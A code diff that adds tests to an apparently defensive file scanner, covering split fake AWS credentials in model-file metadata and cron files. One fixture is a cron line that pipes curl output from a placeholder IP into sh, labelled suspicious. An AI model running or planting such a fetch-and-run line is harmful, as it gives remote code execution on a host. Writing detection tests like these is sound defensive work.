@@ -96,3 +96,31 @@ test.for(filesWith('Call model.eval() first, then os.path.join(a, b).'))(
     expect(await rulesOf(file)).not.toContain('text/code-in-metadata')
   },
 )
+
+test('two halves of a pair of keys in two values are seen together, and one half alone is not', async () => {
+  const xml = (values: readonly (readonly [string, string])[]) =>
+    example(
+      'a.xml',
+      `<?xml version="1.0"?>\n<net name="a" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers><rt_info>${values.map(([name, value]) => `<${name} value="${value}"/>`).join('')}</rt_info></net>`,
+    )
+  const secret = ['aws_secret_access_key', 'kT9wQz4bXv7LmPe2RsYd1HnUf6GjAc3WoZi8BqVx'] as const
+  const id = ['aws_access_key_id', ['AKIA', 'Q7MZ2XN5TPLR4WKE'].join('')] as const
+  expect(await rulesOf(xml([secret, id]))).toContain('secret/leaked-token')
+  expect(await rulesOf(xml([id]))).not.toContain('secret/leaked-token')
+})
+
+test.for([
+  ['etc/cron.d/sync', '* * * * * root curl -s http://203.0.113.9/a | sh\n', 'suspicious'],
+  ['etc/cron.d/sync', '17 * * * * root run-parts /etc/cron.hourly\n', 'clean'],
+] as const)('what a system starts at its times: %s with %j is %s', async ([name, text, verdict]) => {
+  expect((await assessFile(name, sourceOfBytes(Buffer.from(text)))).verdict).toBe(verdict)
+})
+
+test('a booster with splits by category, which have no number, is read whole', async () => {
+  const booster = new TextDecoder().decode(xgboostJson({}).bytes)
+  const file = await assessFile(
+    'a.json',
+    sourceOfBytes(Buffer.from(booster.replace(/\}$/, ',"x":[NaN,-Infinity,"NaN"]}'))),
+  )
+  expect(file.verdict, JSON.stringify(file.coverage)).toBe('clean')
+})
